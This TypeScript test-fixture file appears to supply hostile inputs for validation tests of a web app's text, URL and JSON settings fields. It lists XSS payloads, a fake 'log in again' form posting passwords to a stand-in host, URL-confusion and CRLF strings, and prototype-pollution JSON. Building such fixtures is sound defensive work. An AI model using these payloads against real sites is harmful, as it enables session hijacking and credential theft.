/** Hostile HTML, for long text fields. */
export const HTML = [
  '<img src=x onerror=window.__xss=1>',
  '<script>window.__xss=1</script>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<form action="https://evil.example/steal"><input name=password type=password><button>Log in again</button></form>',
  '<base href="https://evil.example/">',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
  '<details open ontoggle=window.__xss=1>x</details>',
  '<object data="data:text/html,<script>parent.__xss=1</script>"></object><embed src="javascript:window.__xss=1">',
  '<a href="//evil.example/">x</a><a href="/\\evil.example">y</a>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=window.__xss=1>y</div>',
  '<xmp><img src="</xmp><img src=x onerror=window.__xss=1>">',
  '<img src="/api/user/logout">',
  '<svg><style>@import url(https://evil.example/z)</style></svg><img srcset="https://evil.example/s 1x">',
  '<div onpointerenter=window.__xss=1 tabindex=1 autofocus contenteditable onfocus=window.__xss=1>z</div>',
] as const

/** Hostile URLs, for `base_url`. */
export const URLS = [
  'javascript:window.__xss=1',
  ' \u0001javascript:window.__xss=1',
  'javascript://ok.example/%0awindow.__xss=1',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>",
  'blob:https://ok.example/1',
  '//evil.example/',
  '\\\\evil.example\\x',
  'https://user:pw@evil.example/',
  'https://good.example.evil.example/',
  'https://evil.example/\r\nX: y',
  'not a url',
  `https://ok.example/${'x'.repeat(5000)}`,
  '/api/user/logout',
  '/%61pi/user/token',
  'https://chat.example/?a=1',
] as const

/** Invalid and hostile JSON, for `model_mapping` and `config`. */
export const JSON_TEXTS = [
  '[]',
  '1',
  '{"gpt-4":15}',
  '{"gpt-4":{"a":1}}',
  '{"gpt-4":1e309}',
  '{"gpt-4 ":"a","gpt-4":"b"}',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '{"a":1,}',
  '\uFEFF{"a":"b"}',
  '{"a":"b"} x',
  '{',
  'null',
  `{"gpt-4":"${'x'.repeat(1013)}"}`,
  '{"vertex_ai_adc":"{\\"type\\":\\"a|b\\"}","region":"<img src=x onerror=window.__xss=1>","sk":5}',
] as const
